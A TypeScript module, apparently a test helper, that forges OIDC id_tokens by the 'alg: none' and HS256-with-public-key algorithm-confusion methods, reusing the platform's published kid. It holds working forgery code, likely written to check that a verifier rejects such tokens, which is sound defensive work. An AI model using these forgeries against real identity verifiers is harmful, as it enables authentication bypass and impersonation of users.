import { createPublicKey } from 'node:crypto';
import { SignJWT, type JWK } from 'jose';
import type { SigningKey } from './keys.js';

/**
 * The classic id_token forgeries: no signature at all, or an HMAC keyed with the platform's
 * public key (a verifier that lets the token pick its algorithm would accept both).
 * @see https://datatracker.ietf.org/doc/html/rfc8725#section-2.1
 */
export type ForgedAlg = 'none' | 'HS256-with-public-pem' | 'HS256-with-public-jwk';

const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

/** The platform's public key in the forms an attacker finds it: PEM (SPKI) and the JWKS entry. */
function publicSecret(alg: Exclude<ForgedAlg, 'none'>, publicJwk: JWK): Uint8Array {
  if (alg === 'HS256-with-public-jwk') return new TextEncoder().encode(JSON.stringify(publicJwk));
  const pem = createPublicKey({ key: publicJwk as import('node:crypto').JsonWebKey, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
  return new TextEncoder().encode(String(pem));
}

/** Signs `payload` the forged way, under the platform's published kid (so the key lookup succeeds). */
export async function forgeToken(alg: ForgedAlg, payload: Record<string, unknown>, key: SigningKey): Promise<string> {
  if (alg === 'none') return `${encode({ alg: 'none', kid: key.kid, typ: 'JWT' })}.${encode(payload)}.`;
  return new SignJWT(payload).setProtectedHeader({ alg: 'HS256', kid: key.kid, typ: 'JWT' }).sign(publicSecret(alg, key.publicJwk));
}
